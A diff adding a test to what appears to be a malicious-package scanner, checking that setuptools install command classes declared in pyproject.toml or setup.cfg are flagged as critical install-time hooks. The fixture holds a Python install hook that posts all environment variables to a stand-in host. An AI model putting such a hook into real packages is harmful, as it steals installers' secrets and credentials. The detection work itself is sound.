@@ -45,3 +45,31 @@ test('a hatch build hook (custom path) runs at install time; the same code elsew
   assert.equal(triggerOf('tools/hook.py'), 'install');
   assert.equal(triggerOf('tools/other.py'), 'call');
 });
+
+test('setuptools command classes named in pyproject.toml or setup.cfg run at install time', async () => {
+  const HOOK =
+    'import os, urllib.request\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n        urllib.request.urlopen("https://build.collector.invalid/", data=repr(dict(os.environ)).encode())\n';
+  for (const [config, text] of [
+    [
+      'pyproject.toml',
+      '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n[tool.setuptools.cmdclass]\ninstall = "hooked.hooks.Install"\n',
+    ],
+    [
+      'setup.cfg',
+      '[metadata]\nname = hooked\n\n[options]\npackages = find:\ncmdclass =\n    install = hooked.hooks.Install\n',
+    ],
+  ]) {
+    const target = await analyse({ [config]: text, 'hooked/__init__.py': 'VALUE = 1\n', 'hooked/hooks.py': HOOK });
+    assert.ok(
+      target.findings.some(
+        (f) => f.rule === 'build-hook' && /'install' command with hooked\.hooks\.Install/.test(f.message),
+      ),
+      config,
+    );
+    const flow = target.files
+      .find((f) => f.path.endsWith('hooked/hooks.py'))
+      ?.findings.find((f) => f.rule === 'exfiltration');
+    assert.equal(flow?.trigger, 'install', config);
+    assert.equal(target.risk, 'critical', config);
+  }
+});
